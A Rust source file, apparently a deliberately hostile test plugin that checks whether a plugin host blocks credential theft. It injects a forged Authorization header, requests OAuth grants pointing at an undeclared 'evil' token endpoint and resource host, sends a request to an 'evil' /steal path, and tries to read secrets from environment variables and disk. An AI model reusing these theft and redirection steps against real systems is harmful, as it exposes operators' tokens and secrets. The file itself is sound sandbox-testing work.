//! Tries to get hold of the source's credential or token, or to send them somewhere else:
//! (a) sets its own `Authorization: Bearer stolen` on allowed requests (the host must drop it,
//! attach its own token only to the grant's resource hosts, and nothing elsewhere); a host that
//! forbids the header outright refuses it in the plugin, which records that and sends the
//! request without it;
//! (b) asks `host.authorize` for a grant with a foreign token URL, and for the declared grant
//! with a foreign resource host (both must be refused before anything is posted);
//! (c) looks for the secret in the environment and on disk.
//! Every observation is logged at warn level and returned in a `denied` error.
//!
//! Settings: `url` (the emulator: token endpoint and a resource host), `tenant_id`, `echo` (a
//! second resource host), `plain` (allowed, not a resource host), `evil` (never declared),
//! optional `token_url` (declare this token URL instead, with its origin among the hosts),
//! `secret_env` and `secret_path` (where the operator keeps the secret).

use hostile_common::*;

const SCOPE: &str = "https://graph.microsoft.com/.default";
const STOLEN: (&str, &str) = ("authorization", "Bearer stolen");

struct StealCredential;

fn need(settings: &Settings, name: &str) -> Result<String, CollectError> {
    setting(settings, name)
        .map(|v| v.trim_end_matches('/').to_string())
        .ok_or_else(|| CollectError::InvalidConfig(Failure::new(format!("`{name}` is required"))))
}

fn origin_of(url: &str) -> String {
    let after = url.find("://").map(|i| i + 3).unwrap_or(0);
    match url[after..].find('/') {
        Some(i) => url[..after + i].to_string(),
        None => url.to_string(),
    }
}

fn declared_grant(settings: &Settings) -> Result<Grant, CollectError> {
    let url = need(settings, "url")?;
    let token_url = match setting(settings, "token_url") {
        Some(t) => t.to_string(),
        None => format!("{url}/{}/oauth2/v2.0/token", need(settings, "tenant_id")?),
    };
    Ok(Grant::client_credentials(
        token_url,
        SCOPE,
        [url, need(settings, "echo")?],
    ))
}

fn authorize(grant: &Grant) -> String {
    match host::authorize(grant) {
        Ok(facts) => format!("granted (roles {})", facts.roles.join(" ")),
        Err(e) => format!("refused {} {}: {}", e.status, e.error, e.description),
    }
}

/// GETs `url` with the stolen `Authorization`. If the host refuses the header itself, says so
/// and sends the request without it, so what reaches the server is still observed.
fn get(url: &str) -> String {
    let said = |answer: Result<raw::Reply, raw::RawError>| match answer {
        Ok(r) => format!("HTTP {}", r.status),
        Err(e) => e.to_string(),
    };
    match raw::get(url, &[STOLEN]) {
        Err(refused @ raw::RawError::Header(_)) => {
            format!(
                "header refused ({refused}); sent without it: {}",
                said(raw::get(url, &[]))
            )
        }
        answer => said(answer),
    }
}

impl Collector for StealCredential {
    fn describe(&self) -> Descriptor {
        Descriptor {
            credential: CredentialKind::Oauth2ClientCredentials,
            ..descriptor(
                "steal-credential",
                "tries to read, replace or redirect the host's credential and token",
            )
        }
    }

    fn plan(&self, settings: &Settings) -> Result<RunPlan, CollectError> {
        let grant = declared_grant(settings)?;
        let mut hosts = vec![
            need(settings, "url")?,
            need(settings, "echo")?,
            need(settings, "plain")?,
        ];
        let token_origin = origin_of(grant.token_url());
        if !hosts.contains(&token_origin) {
            hosts.push(token_origin);
        }
        Ok(RunPlan {
            hosts,
            grant: Some(grant),
        })
    }

    fn collect(&self, settings: &Settings, _mode: CollectMode) -> Result<Summary, CollectError> {
        let url = need(settings, "url")?;
        let echo = need(settings, "echo")?;
        let plain = need(settings, "plain")?;
        let evil = need(settings, "evil")?;
        let declared = declared_grant(settings)?;
        let mut seen = Vec::new();

        // (a) the declared grant, then requests carrying the plugin's own Authorization.
        seen.push(format!("declared grant: {}", authorize(&declared)));
        seen.push(format!(
            "echo with stolen header: {}",
            get(&format!("{echo}/echo"))
        ));
        seen.push(format!(
            "plain with stolen header: {}",
            get(&format!("{plain}/plain"))
        ));
        seen.push(format!(
            "graph with stolen header: {}",
            get(&format!("{url}/v1.0/organization"))
        ));

        // (b) grants the plan did not declare.
        let foreign_token = Grant::client_credentials(
            format!("{evil}/common/oauth2/v2.0/token"),
            SCOPE,
            declared.resource_hosts().to_vec(),
        );
        seen.push(format!("foreign token-url: {}", authorize(&foreign_token)));
        let mut foreign_resource = declared.clone();
        foreign_resource.resource_hosts_mut().push(evil.clone());
        seen.push(format!(
            "foreign resource host: {}",
            authorize(&foreign_resource)
        ));
        seen.push(format!(
            "evil with stolen header: {}",
            get(&format!("{evil}/steal"))
        ));

        // (c) the secret in the environment or on disk.
        let vars: Vec<String> = std::env::vars().map(|(k, _)| k).collect();
        seen.push(format!("env: {} vars", vars.len()));
        if let Some(name) = setting(settings, "secret_env") {
            seen.push(format!(
                "env {name}: {:?}",
                std::env::var(name).map(|_| "READ")
            ));
        }
        if let Some(path) = setting(settings, "secret_path") {
            seen.push(format!(
                "file {path}: {}",
                match std::fs::read(path) {
                    Ok(bytes) => format!("READ {} bytes", bytes.len()),
                    Err(e) => format!("error {e}"),
                }
            ));
        }

        for line in &seen {
            warn(&format!("steal-credential observed: {line}"));
        }
        Err(CollectError::Denied(Failure::new(format!(
            "steal-credential: {}",
            seen.join("; ")
        ))))
    }
}

register_collector!(StealCredential);
